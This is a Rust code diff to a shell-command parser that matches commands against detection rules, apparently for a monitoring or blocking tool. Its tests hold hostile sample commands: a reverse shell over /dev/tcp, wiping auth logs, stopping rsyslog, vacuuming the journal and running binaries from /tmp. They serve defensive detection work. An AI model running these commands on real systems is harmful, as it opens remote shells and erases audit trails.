@@ -20,7 +20,7 @@ const WRAPPERS: &[&str] = &[
 /// Shells whose `-c` holds the real command.
 const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash"];
 
-/// The words of one command; the first is the program's name without its path.
+/// The words of one command; the first is the program, with its path where the line gives one.
 pub(crate) type Words = SmallVec<[String; 8]>;
 
 /// The commands of a line, in order.
@@ -66,6 +66,8 @@ fn tokens(line: &str) -> Vec<Token> {
                 push(&mut word, &mut out);
                 redirect = false;
             }
+            // `>&` sends both outputs to the file that follows.
+            '&' if redirect && word == ">" => {}
             ';' | '|' | '&' | '`' | '(' | ')' | '{' | '}' => {
                 push(&mut word, &mut out);
                 redirect = false;
@@ -113,9 +115,6 @@ fn finish(words: &mut Words, out: &mut Vec<Words>) {
         {
             rest.drain(..2);
         } else {
-            if !first.starts_with('>') {
-                rest[0] = program;
-            }
             out.push(rest);
             return;
         }
@@ -139,7 +138,7 @@ pub(crate) fn cut(text: &str, max: usize) -> &str {
     text.get(..end).unwrap_or_default()
 }
 
-/// A pattern of a rule: words that must all occur, the first as the program's name.
+/// A pattern of a rule: words that must all occur, the first as the program's name, or as its path when it holds a slash.
 #[derive(Clone, Debug)]
 pub(crate) struct Pattern {
     words: Vec<String>,
@@ -159,7 +158,8 @@ impl Pattern {
             return command.iter().find(|word| glob(program, word)).map(|word| word.trim_start_matches('>'));
         }
         let (first, rest) = command.split_first()?;
-        if !glob(program, first) {
+        let name = if program.contains('/') { first.as_str() } else { base(first) };
+        if !glob(program, name) {
             return None;
         }
         let mut last = first.as_str();
@@ -209,6 +209,10 @@ mod tests {
         assert!(fits(">/var/log/*", "bash -c ': 1>/var/log/auth.log'"));
         assert!(fits("systemctl stop rsyslog*", "/usr/bin/systemctl stop rsyslog.service"));
         assert!(fits("journalctl --vacuum-*", "journalctl --vacuum-time=1s"));
+        assert!(fits(">*/dev/tcp/*", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'"));
+        assert!(
+            fits("/tmp/*", "/tmp/.x/run") && !fits("/tmp/*", "/usr/bin/ls /tmp/x") && !fits("/tmp/*", "run")
+        );
     }
 
     #[test]
